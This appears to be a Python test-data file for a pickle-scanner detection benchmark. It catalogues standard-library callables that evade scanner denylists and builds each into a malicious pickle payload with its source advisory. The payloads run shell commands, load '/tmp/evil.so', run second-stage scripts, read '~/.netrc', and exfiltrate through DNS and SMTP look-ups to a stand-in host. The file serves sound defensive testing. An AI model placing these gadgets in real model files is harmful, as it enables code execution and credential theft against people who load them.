"""Callables of Python itself that run code, reach the network or open files, and that denylists were found without."""

from __future__ import annotations

from bench.detection.build.pickled import SYSTEM, caught
from bench.detection.sample import Sample
from tests.malicious.pickles import Opcodes, call, named

_ADVISORIES = "picklescan's advisories, 2025 and 2026"
_FICKLING = "fickling's advisories and tests"
_SCANNERS = "denylists of picklescan and modelscan"
_DNS = "picklescan's advisories: data carried out by names that are looked up (CVE-2025-46417)"
_JFROG = "JFrog 2025: CVE-2025-10157"
_SOURCE = "import os; os.system('id')"
_HOST = "secret.exfil.example.invalid"


# name, technique, source, payload
_ROWS: tuple[tuple[str, str, str, Opcodes], ...] = (
    ("timeit", "timeit.timeit runs source text", _ADVISORIES, call("timeit", "timeit", _SOURCE, "pass")),
    ("timeit_repeat", "timeit.repeat runs source text", _ADVISORIES, call("timeit", "repeat", "pass", _SOURCE)),
    ("console", "code.interact", _ADVISORIES, call("code", "interact")),
    ("c_profile", "cProfile.run", _ADVISORIES, call("cProfile", "run", _SOURCE)),
    ("profile", "profile.run", _ADVISORIES, call("profile", "run", _SOURCE)),
    ("profiler", "a method by a dotted name", _ADVISORIES, call("profile", "Profile.run", SYSTEM, "pass")),
    (
        "trace",
        "a tracer that runs source text",
        _ADVISORIES,
        call("trace", "Trace.run", call("trace", "Trace"), _SOURCE),
    ),
    ("pdb", "the debugger", _ADVISORIES, call("pdb", "run", "pass")),
    ("bdb", "the debugger's base", _ADVISORIES, call("bdb", "Bdb.run", call("bdb", "Bdb"), _SOURCE)),
    ("doctest", "doctest.debug_script", _ADVISORIES, call("doctest", "debug_script", _SOURCE)),
    (
        "idle_complete",
        "IDLE's completion evaluates",
        _ADVISORIES,
        call("idlelib.autocomplete", "AutoComplete.get_entity", SYSTEM, _SOURCE),
    ),
    ("idle_tip", "IDLE's call tip evaluates", _ADVISORIES, call("idlelib.calltip", "get_entity", _SOURCE)),
    ("idle_run", "IDLE's runner", _ADVISORIES, call("idlelib.run", "Executive.runcode", SYSTEM, "x")),
    (
        "grammar",
        "lib2to3 loads a pickled grammar",
        _ADVISORIES,
        call("lib2to3.pgen2.grammar", "Grammar.loads", SYSTEM, b"x"),
    ),
    ("spawn_program", "distutils' spawn", _SCANNERS, call("distutils.spawn", "spawn", ["id"])),
    (
        "write_file",
        "distutils writes a file",
        _ADVISORIES,
        call("distutils.file_util", "write_file", "/tmp/x", ["x"]),
    ),
    ("ensure_pip", "ensurepip runs pip", _ADVISORIES, call("ensurepip", "_run_pip", ["--version"])),
    ("pip_main", "pip installs what it is told", "CVE-2025-1716", call("pip", "main", ["install", "x"])),
    ("pydoc_pipe", "pydoc pipes into a shell command", _ADVISORIES, call("pydoc", "pipepager", "text", "id")),
    ("pydoc_locate", "pydoc imports what it is told", _FICKLING, call("pydoc", "locate", "this")),
    (
        "asyncio_shell",
        "a shell by asyncio",
        _JFROG,
        call("asyncio.unix_events", "_UnixSubprocessTransport._start", SYSTEM, "id", True, 0, 0, 0, 0),
    ),
    (
        "asyncio_run",
        "asyncio runs a coroutine",
        _JFROG,
        call("asyncio", "run", call("asyncio", "create_subprocess_shell", "id")),
    ),
    ("uuid_command", "uuid's command runner", _FICKLING, call("uuid", "_get_command_stdout", "id")),
    ("c_library", "a library, loaded by ctypes", _FICKLING, call("ctypes", "CDLL", "/tmp/evil.so")),
    ("c_library_find", "ctypes.util runs a compiler", _FICKLING, call("ctypes.util", "_findLib_gcc", "x")),
    ("osx_output", "_osx_support reads a command's output", _FICKLING, call("_osx_support", "_read_output", "id")),
    (
        "aix_output",
        "_aix_support reads a command's output",
        _ADVISORIES,
        call("_aix_support", "_read_cmd_output", "id"),
    ),
    ("boot_subprocess", "a subprocess for builds", _FICKLING, call("_bootsubprocess", "check_output", ["id"])),
    (
        "logging_config",
        "logging's configuration evaluates",
        _ADVISORIES,
        call("logging.config", "_resolve", "this"),
    ),
    ("logging_listen", "logging listens for configurations", _ADVISORIES, call("logging.config", "listen", 9030)),
    (
        "spawned",
        "multiprocessing's spawn",
        _ADVISORIES,
        call("multiprocessing.util", "spawnv_passfds", b"/usr/bin/id", [b"id"], []),
    ),
    (
        "executor",
        "an executor of processes",
        _FICKLING,
        call("concurrent.futures.process", "ProcessPoolExecutor", 1),
    ),
    ("run_path", "a second stage on disk, run as a script", _SCANNERS, call("runpy", "run_path", "/tmp/stage2.py")),
    ("import_module", "imports a second stage", _SCANNERS, call("importlib", "import_module", "stage2")),
    ("zip_import", "imports from an archive", _FICKLING, call("zipimport", "zipimporter", "/tmp/stage2.zip")),
    (
        "resolve_name",
        "pkgutil.resolve_name finds anything",
        _ADVISORIES,
        call("pkgutil", "resolve_name", "os:system"),
    ),
    ("site_file", "site runs the lines of a .pth file", _FICKLING, call("site", "addpackage", "/tmp", "x.pth", [])),
    ("unpickle_again", "pickle within pickle", _SCANNERS, call("_pickle", "loads", b"N.")),
    ("shelve", "a shelf of pickles", _FICKLING, call("shelve", "open", "/tmp/x")),
    ("breakpoint", "builtins.breakpoint", _FICKLING, call("builtins", "breakpoint")),
    (
        "exit_handler",
        "a handler for the exit",
        _FICKLING,
        call("atexit", "register", named("builtins", "print"), "late"),
    ),
    (
        "signal_handler",
        "a handler for a signal",
        _FICKLING,
        call("signal", "signal", 10, named("builtins", "print")),
    ),
    ("timer", "a thread that waits", _FICKLING, call("threading", "Timer", 1, named("builtins", "print"))),
    (
        "finalizer_of",
        "weakref.finalize",
        _FICKLING,
        call("weakref", "finalize", named("argparse", "Namespace"), named("builtins", "print"), "late"),
    ),
    ("trace_hook", "sys.settrace", _FICKLING, call("sys", "settrace", named("builtins", "print"))),
    ("audit_hook", "sys.addaudithook", _FICKLING, call("sys", "addaudithook", named("builtins", "print"))),
    ("collector", "gc.get_objects", _FICKLING, call("gc", "get_objects")),
    ("codec", "registers a codec", _FICKLING, call("codecs", "register", named("builtins", "print"))),
    (
        "codec_error",
        "an error handler of a codec",
        _FICKLING,
        call("codecs", "register_error", "x", named("builtins", "print")),
    ),
    ("extension_code", "copyreg.add_extension", _FICKLING, call("copyreg", "add_extension", "os", "system", 77)),
    (
        "hints_evaluated",
        "typing evaluates annotations",
        _FICKLING,
        call("typing", "get_type_hints", named("argparse", "Namespace")),
    ),
    ("forward_reference", "typing compiles text", _FICKLING, call("typing", "ForwardRef", "__import__('this')")),
    ("linecache_read", "reads a file", _ADVISORIES, call("linecache", "getlines", "/home/user/.netrc")),
    ("tls_certificate", "a look-up by ssl", _DNS, call("ssl", "get_server_certificate", (_HOST, 443))),
    ("socket_lookup", "a look-up by socket", _DNS, call("socket", "gethostbyname", _HOST)),
    ("socket_private", "a look-up by _socket", _DNS, call("_socket", "getaddrinfo", _HOST, 80)),
    ("mail", "a connection by smtplib", _DNS, call("smtplib", "SMTP", _HOST)),
)

# Python 2's names, and others by which the same functions go.
_SPELLINGS: tuple[tuple[str, str, Opcodes], ...] = (
    ("old_builtins", "__builtin__.eval", call("__builtin__", "eval", "1")),
    ("execfile", "__builtin__.execfile", call("__builtin__", "execfile", "/tmp/x")),
    ("old_apply", "__builtin__.apply", call("__builtin__", "apply", named("posix", "system"), ("id",))),
    ("commands", "commands.getoutput", call("commands", "getoutput", "id")),
    ("popen2", "os.popen2", call("os", "popen2", "id")),
    ("old_pickle", "cPickle.loads", call("cPickle", "loads", b"N.")),
    ("old_new", "new.function", call("new", "function", None, {})),
    ("builtins_alias", "__builtins__.exec", call("__builtins__", "exec", "1")),
    ("raw_io", "_io.open", call("_io", "open", "/tmp/owned", "w")),
    ("raw_codecs", "_pyio.open", call("_pyio", "open", "/tmp/owned", "w")),
    ("raw_thread", "_thread.start_new_thread", call("_thread", "start_new_thread", named("builtins", "print"), ())),
)

_CAUGHT = (
    (
        "global.dangerous.called",
        "event.fork event.program",
        "timeit timeit_repeat c_profile profile trace pdb bdb doctest",
    ),
    ("global.dangerous.called", "event.fork event.program load.failed", "pydoc_pipe"),
    ("global.dangerous.called", "event.write load.failed", "shelve"),
    ("global.type.called", "", "forward_reference"),
    ("global.applier.called global.dangerous.passed", "", "spelled_old_apply"),
)

SAMPLES: tuple[Sample, ...] = caught(
    (
        *_ROWS,
        *(
            (f"spelled_{name}", technique, "fickling's and picklescan's tests", payload)
            for name, technique, payload in _SPELLINGS
        ),
    ),
    _CAUGHT,
)
